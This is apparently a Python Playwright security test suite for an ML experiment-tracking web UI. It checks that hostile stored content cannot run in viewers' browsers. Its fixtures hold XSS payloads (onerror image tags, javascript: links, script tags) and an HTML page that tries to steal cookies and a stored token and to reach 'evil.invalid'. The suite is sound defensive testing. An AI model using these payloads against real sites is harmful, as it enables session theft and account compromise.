"""Whatever was logged, nothing of it runs in the browser of whoever looks at it."""

import contextlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, expect

from hostile_corpus import FILE_NAMES, FILES, MARKDOWN, TEXTS
from logged_run import log_run
from server_process import ServerProcess
from slipstream.client.client import SlipstreamClient
from slipstream.entities import Dataset, DatasetInput, InputTag, Metric, Param, RunTag

OpenPage = Callable[..., Page]
WATCH_RULES = "addEventListener('securitypolicyviolation', e => console.error('RULE ' + e.effectiveDirective + ' ' + e.blockedURI + ' ' + e.sample))"


class Guarded:
    """A page on which anything that acts is noticed."""

    def __init__(self, page: Page, server: str) -> None:
        self.page = page
        self.noticed: list[str] = []
        self.server = server
        page.on("dialog", self._on_dialog)
        page.on("popup", lambda popup: self.noticed.append(f"window: {popup.url}"))
        page.on("download", lambda download: self.noticed.append(f"download: {download.url}"))
        page.on("pageerror", lambda error: self.noticed.append(f"error: {error}"))
        page.on("console", lambda message: message.type == "error" and self.noticed.append(message.text))
        page.on(
            "response",
            lambda answer: answer.status >= 400 and self.noticed.append(f"{answer.status}: {answer.url}"),
        )
        page.on("request", lambda request: self._on_request(request.url))

    def _on_dialog(self, dialog: Any) -> None:
        self.noticed.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _on_request(self, url: str) -> None:
        local = url.startswith(("data:", "blob:", "about:"))
        if not local and (not url.startswith(self.server) or "/pwned" in url):
            self.noticed.append(f"request: {url}")

    def go(self, path: str) -> None:
        self.page.goto(self.server + path)

    def check(self) -> None:
        """Nothing ran, and no rule of the browser had to stop it."""
        for frame in self.page.frames:
            with contextlib.suppress(Exception):  # frames of the PDF viewer are no pages
                assert frame.evaluate("typeof window.pwned") == "undefined", frame.url
        assert self.page.url.startswith(self.server)
        assert self.noticed == []


@pytest.fixture
def guarded(browser: Browser, server: ServerProcess) -> Iterator[Guarded]:
    context = browser.new_context(viewport={"width": 1440, "height": 1000})
    context.add_init_script(WATCH_RULES)
    page = context.new_page()
    page.set_default_timeout(20_000)
    yield Guarded(page, server.url)
    context.close()


@pytest.fixture(scope="module")
def hostile_run(server: ServerProcess, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A run of which every part is hostile; its id."""
    client = SlipstreamClient(server.url)
    experiment = client.create_experiment(TEXTS[3][:200])
    tags = {f"tag {number} {text}"[:200]: text for number, text in enumerate(TEXTS) if _fits(text)}
    captured = {
        "mlflow.note.content": MARKDOWN,
        "mlflow.user": TEXTS[3],
        "mlflow.source.name": f"javascript:{TEXTS[0]}",
        "mlflow.source.git.commit": TEXTS[0],
        "mlflow.source.git.repoURL": "javascript:top.pwned=1",
        "mlflow.source.git.branch": TEXTS[5],
        "mlflow.parentRunId": "<img src=x onerror=top.pwned=1>",
        "slipstream.command": TEXTS[1],
        "slipstream.host": TEXTS[5],
        "slipstream.end.reason": TEXTS[0],
        "slipstream.end.noticed_by": TEXTS[5],
    }
    run_id = log_run(
        client, tmp_path_factory.mktemp("files"), FILES, experiment=experiment, name=TEXTS[0], tags=captured
    )
    client.log_batch(
        run_id,
        params=[Param(f"p{number}", text) for number, text in enumerate(TEXTS)],
        tags=[RunTag(key, value) for key, value in tags.items() if _is_name(key)],
        metrics=[Metric("constructor", 1.0, 1, 0), Metric("__proto__", 2.0, 1, 0)],
    )
    dataset = Dataset(
        name=TEXTS[5][:400],
        digest="<b>x</b>",
        source_type=TEXTS[4][:30],
        source='{"uri": "javascript:top.pwned=1"}',
        schema='{"<script>": "<script>top.pwned=1</script>"}',
        profile="{",
    )
    client.log_inputs(
        run_id,
        datasets=[DatasetInput(dataset=dataset, tags=[InputTag("mlflow.data.context", TEXTS[3][:200])])],
    )
    return f"/experiments/{experiment}/runs/{run_id}"


def _fits(text: str) -> bool:
    return len(text) <= 5000


def _is_name(text: str) -> bool:
    return all(letter.isalnum() or letter in "_-. /:" for letter in text)


def test_what_runs_is_noticed(guarded: Guarded, hostile_run: str) -> None:
    guarded.go(hostile_run)
    expect(guarded.page.get_by_role("heading", level=1)).to_contain_text("<script>")

    guarded.page.evaluate(
        "new Promise(done => { addEventListener('securitypolicyviolation', done, {once: true});"
        " document.querySelector('h1').innerHTML = `<img src='/pwned' onerror='1'>`; window.pwned = 1; }).then(() => 1)"
    )
    with pytest.raises(AssertionError):
        guarded.check()
    guarded.page.evaluate("delete window.pwned")
    with pytest.raises(AssertionError):
        guarded.check()
    assert any(text.startswith("request: ") for text in guarded.noticed)
    assert any("RULE script-src" in text for text in guarded.noticed)


@pytest.mark.parametrize("part", ["", "/charts", "/system", "/console", "/code"])
def test_no_part_of_a_run_acts(guarded: Guarded, hostile_run: str, part: str) -> None:
    guarded.go(hostile_run + part)
    expect(guarded.page.get_by_role("heading", level=1)).to_contain_text("<script>")
    expect(guarded.page.locator(".skeleton")).to_have_count(0)

    guarded.check()


@pytest.fixture(scope="module")
def hostile_model(server: ServerProcess, hostile_run: str) -> str:
    """A registered model whose texts are hostile; the address of its page."""
    client = SlipstreamClient(server.url)
    name = "<img src=x onerror=top.pwned=1>"
    client.create_registered_model(name, tags={"team": TEXTS[0]}, description=MARKDOWN[:4000])
    run_id = hostile_run.rpartition("/")[2]
    client.create_model_version(
        name,
        source=f"{client.get_run(run_id).info.artifact_uri}/whole",
        run_id=run_id,
        tags={"tag": TEXTS[5]},
        description=MARKDOWN[:4000],
    )
    return f"/models/{quote(name, safe='')}"


@pytest.mark.parametrize("part", ["/", "/experiments", "/models", "/serving"])
def test_no_list_acts(guarded: Guarded, hostile_model: str, part: str) -> None:
    guarded.go(part)
    expect(
        guarded.page.get_by_role("main").get_by_role("heading").or_(guarded.page.get_by_role("grid")).first
    ).to_be_visible()
    expect(guarded.page.locator(".skeleton")).to_have_count(0)

    guarded.check()


@pytest.mark.parametrize("part", ["", "/versions/1"])
def test_no_model_acts(guarded: Guarded, hostile_model: str, part: str) -> None:
    guarded.go(hostile_model + part)
    expect(guarded.page.get_by_role("main")).to_contain_text("<img src=x onerror=top.pwned=1>")
    expect(guarded.page.locator(".skeleton")).to_have_count(0)

    guarded.check()


@pytest.mark.parametrize("query", ["", "?view=charts", "?columns=params.p0,params.p3,params.p5"])
def test_no_table_of_runs_acts(guarded: Guarded, hostile_run: str, query: str) -> None:
    guarded.go(hostile_run.partition("/runs/")[0] + query)
    expect(guarded.page.get_by_role("heading", level=1)).to_contain_text("<img")
    expect(guarded.page.locator(".skeleton")).to_have_count(0)

    guarded.check()


def test_no_comparison_acts(guarded: Guarded, hostile_run: str, client: SlipstreamClient) -> None:
    run_id = hostile_run.rpartition("/")[2]
    other = client.create_run("0", run_name=TEXTS[3]).info.run_id
    guarded.go(f"/compare?runs={run_id},{other}")
    expect(guarded.page.get_by_role("heading", level=1)).to_be_visible()
    expect(guarded.page.locator(".skeleton")).to_have_count(0)

    guarded.check()


def test_links_of_notes_lead_nowhere_else(guarded: Guarded, hostile_run: str) -> None:
    guarded.go(hostile_run)
    expect(guarded.page.locator(".markdown")).to_be_visible()

    schemes = guarded.page.evaluate(
        "[...new Set([...document.querySelectorAll('a[href]')].map(a => a.protocol))]"
    )
    elements = guarded.page.evaluate(
        "[...new Set([...document.querySelectorAll('.markdown *')].map(e => e.localName))]"
    )

    assert set(schemes) <= {"http:", "https:", "mailto:"}
    assert not set(elements) & {
        "script",
        "img",
        "iframe",
        "object",
        "svg",
        "style",
        "form",
        "input",
        "meta",
        "base",
    } - {"svg"}
    guarded.check()


@pytest.mark.parametrize("name", [name for name in FILES if not name.startswith(("context/", "logs/"))])
def test_no_file_acts(guarded: Guarded, hostile_run: str, name: str) -> None:
    guarded.go(f"{hostile_run}/artifacts?file={quote(name, safe='')}")
    preview = guarded.page.get_by_role("region", name="File", exact=True)
    expect(preview).to_be_visible()
    expect(guarded.page.locator(".skeleton")).to_have_count(0)
    expect(guarded.page.locator("iframe.sealed:not([data-drawn=true])")).to_have_count(0)
    guarded.check()

    source = preview.get_by_role("button", name="Source")
    if source.count():
        source.click()
        expect(preview.get_by_role("group", name="Content")).to_be_visible()
        guarded.check()


def test_a_page_is_drawn_however_late_this_page_paints(guarded: Guarded, hostile_run: str) -> None:
    guarded.page.add_init_script(
        "requestAnimationFrame = () => 0;"
        " const wait = setTimeout; setTimeout = (act, ms = 0) => wait(act, ms + (ms < 200 ? 400 : 0));"
    )
    guarded.go(f"{hostile_run}/artifacts?file=page.html")

    expect(guarded.page.locator("iframe.sealed[data-drawn=true]")).to_be_visible()


def test_no_name_of_a_file_acts(guarded: Guarded, client: SlipstreamClient, tmp_path: Path) -> None:
    run_id = log_run(client, tmp_path, {f"folder/{name}": "x" for name in FILE_NAMES})
    guarded.go(f"/experiments/0/runs/{run_id}/artifacts")
    tree = guarded.page.get_by_role("tree", name="Files")
    tree.get_by_role("treeitem", name="folder").click()
    expect(tree.get_by_role("treeitem")).to_have_count(1 + len(FILE_NAMES))

    for number in range(len(FILE_NAMES)):
        tree.get_by_role("treeitem").nth(1 + number).click()
        expect(guarded.page.locator(".skeleton")).to_have_count(0)
        expect(guarded.page.get_by_role("region", name="File", exact=True)).to_contain_text("1 B")

    expect(tree).to_contain_text("⟨202E⟩txt.exe")
    guarded.check()


LIVE = """<!doctype html><body><p id=out>waiting</p><form id=f action="/api/2.0/mlflow/runs/delete" method=post target=_top></form><script>
const seen = [];
const attempt = (name, act) => { try { const r = act(); seen.push(name + ":" + (r === null ? "null" : "did")); } catch (e) { seen.push(name + ":refused"); } };
attempt("parent", () => parent.document.title);
attempt("top", () => top.document.cookie);
attempt("store", () => localStorage.getItem("slipstream-token"));
attempt("cookie", () => document.cookie);
attempt("away", () => { top.location = "https://evil.invalid/pwned"; });
attempt("open", () => open("https://evil.invalid/pwned"));
attempt("form", () => document.getElementById("f").submit());
attempt("mark", () => { top.pwned = 1; });
addEventListener("message", (e) => seen.push("message"));
const ask = (name, act) => act().then(() => seen.push(name + ":did"), () => seen.push(name + ":refused"));
Promise.all([
  ask("api", () => fetch(SERVER + "/api/2.0/mlflow/experiments/search?max_results=1")),
  ask("api-blind", () => fetch(SERVER + "/api/2.0/mlflow/experiments/create", {method: "POST", mode: "no-cors", body: "{}"})),
  ask("foreign", () => fetch("https://evil.invalid/pwned", {mode: "no-cors"})),
  ask("picture", () => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = "https://evil.invalid/pwned"; })),
  ask("import", () => import(SERVER + "/assets/x.js")),
]).then(() => { document.getElementById("out").textContent = seen.join(" "); });
</script></body>"""


def test_scripts_that_may_run_reach_nothing(
    browser: Browser, server: ServerProcess, client: SlipstreamClient, tmp_path: Path
) -> None:
    run_id = log_run(client, tmp_path, {"live.html": LIVE.replace("SERVER", repr(server.url))})
    context = browser.new_context()
    page = context.new_page()
    asked: set[str] = set()
    page.on("request", lambda request: asked.add(request.url))
    # those that the page's rules held back before they were sent
    page.on("requestfailed", lambda request: request.failure == "csp" and asked.discard(request.url))
    windows: list[Page] = []
    page.on("popup", lambda popup: windows.append(popup))  # noqa: PLW0108  # Playwright sets a mark on it
    address = f"{server.url}/experiments/0/runs/{run_id}/artifacts?file=live.html"
    page.goto(address)
    page.evaluate("localStorage.setItem('slipstream-token', 'not for you')")
    page.get_by_role("button", name="Run its scripts").click()

    out = page.frame_locator("iframe.sealed").locator("#out")
    expect(out).not_to_have_text("waiting", timeout=20_000)

    results = dict(each.split(":") for each in out.inner_text().split() if ":" in each)
    assert {name for name, what in results.items() if what == "did"} <= {"form", "away"}  # asked for, in vain
    assert results["open"] == "null"
    for name in ("parent", "top", "store", "mark", "api", "api-blind", "foreign", "picture", "import"):
        assert results[name] == "refused", name
    assert page.url == address
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert windows == []
    assert not [url for url in asked if "evil.invalid" in url or "/mlflow/experiments/create" in url]
    context.close()


def test_a_frame_cannot_be_led_away(
    browser: Browser, server: ServerProcess, client: SlipstreamClient, tmp_path: Path
) -> None:
    away = "<p id=p>page</p><script>location = 'https://evil.invalid/pwned?' + document.title</script>"
    run_id = log_run(client, tmp_path, {"away.html": away})
    context = browser.new_context()
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    refused: list[str] = []
    page.on("console", lambda message: message.type == "error" and refused.append(message.text))
    page.goto(f"{server.url}/experiments/0/runs/{run_id}/artifacts?file=away.html")
    page.get_by_role("button", name="Run its scripts").click()

    page.wait_for_function("document.querySelectorAll('iframe.sealed').length === 1")
    until_refused(page, refused)

    assert not [url for url in asked if "evil.invalid" in url]
    context.close()


def until_refused(page: Page, refused: list[str]) -> None:
    """Wait for the browser's word that it let nobody go."""
    for _ in range(200):
        if any("frame-src" in text for text in refused):
            return
        page.wait_for_timeout(50)
    raise AssertionError(f"the browser said nothing: {refused}")
